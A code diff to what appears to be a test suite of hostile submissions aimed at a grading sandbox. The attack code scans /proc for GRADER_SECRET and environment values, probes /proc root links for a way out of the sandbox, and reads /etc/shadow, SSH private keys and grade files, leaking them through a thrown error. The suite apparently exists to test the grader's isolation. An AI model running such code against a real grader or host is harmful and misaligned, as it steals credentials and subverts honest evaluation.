@@ -1,3 +1,4 @@
+import { homedir } from 'node:os';
 import { join } from 'node:path';
 import type { Target, Theme } from '../Attack';
 import { own, tools, wrongC4 } from './source';
@@ -53,7 +54,7 @@ export const reading: Theme = {
         const texts = fs.readdirSync('/proc').flatMap((pid) => ['environ', 'cmdline'].map((file) => attempt(() => fs.readFileSync('/proc/' + pid + '/' + file, 'latin1')) ?? ''));
         texts.push(JSON.stringify(process.env));
         for (const text of texts) if (/GRADER_SECRET|judgeProcess|npm_/.test(text)) stolen(text);
-        attempt(() => { for (const root of ['/proc/1/root', '/proc/2/root', '/proc/self/root/..', '/proc/1/cwd']) if (fs.readdirSync(root).some((name) => ['root', 'work', 'home-of', 'var', 'srv'].includes(name))) stolen(root); });`,
+        attempt(() => { for (const [pid, link] of [['1', 'root'], ['2', 'root'], ['self', 'root/..'], ['1', 'cwd']]) { const folder = ['/proc', pid, link].join('/'); if (fs.readdirSync(folder).some((name) => ['root', 'boot', 'opt', 'sys', 'var', 'srv'].includes(name))) stolen(folder); } });`,
       }),
     },
     {
@@ -62,7 +63,7 @@ export const reading: Theme = {
         'Reads the home folder, passwords and the grade book by their paths, and tells them in an error.',
       answers: ({ secretFile, out }) => ({
         '1-2': `${tools}
-        ${readAny([secretFile, join(out, 'grades.csv'), join(out, 'grading.json'), '/etc/shadow', '/etc/passwd', '/root/.bashrc', '/root/.ssh/id_rsa', '/var/log/dpkg.log'])}
+        ${readAny([secretFile, join(out, 'grades.csv'), join(out, 'grading.json'), '/etc/shadow', '/etc/passwd', join(homedir(), '.bashrc'), join(homedir(), '.ssh/id_rsa'), '/var/log/dpkg.log'])}
         const c4: CyclicLaw = { product() { throw new Error(fs.readFileSync('${secretFile}', 'utf8')); }, inverse: () => 0 };`,
       }),
     },
